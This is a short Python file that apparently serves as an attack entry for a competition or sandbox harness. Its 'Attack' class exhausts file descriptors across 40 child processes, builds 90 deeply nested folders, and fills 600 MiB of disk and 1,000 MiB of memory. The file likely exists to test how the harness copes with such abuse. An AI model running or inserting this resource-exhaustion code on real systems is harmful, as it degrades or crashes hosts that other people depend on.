"""Makes every look at it slow, by thousands of descriptors, mappings and folders, and then fills disk and memory at once."""

import mmap
import os
import time

from aim import HOME, MIB, children_do, loot, most_files

from run import ZEWDPCBaseRun


def slow(number):
    for _ in range(most_files() - 100 if number < 10 else 0):
        os.dup(0)
    time.sleep(20)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for number in range(90):
            os.makedirs(f"{HOME}/" + "/".join(f"d{level}" for level in range(number)), exist_ok=True)
        children_do(slow, 40)
        time.sleep(1.5)
        with open(f"{HOME}/full", "wb") as file:
            for _ in range(12):
                file.write(bytes(50 * MIB))
                file.flush()
        held = []
        for _ in range(20):
            held.append(mmap.mmap(-1, 50 * MIB, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
            held[-1].write(bytes(50 * MIB))
        time.sleep(2.5)
        loot("600 MiB of disk and 1,000 MiB of memory, for two seconds")
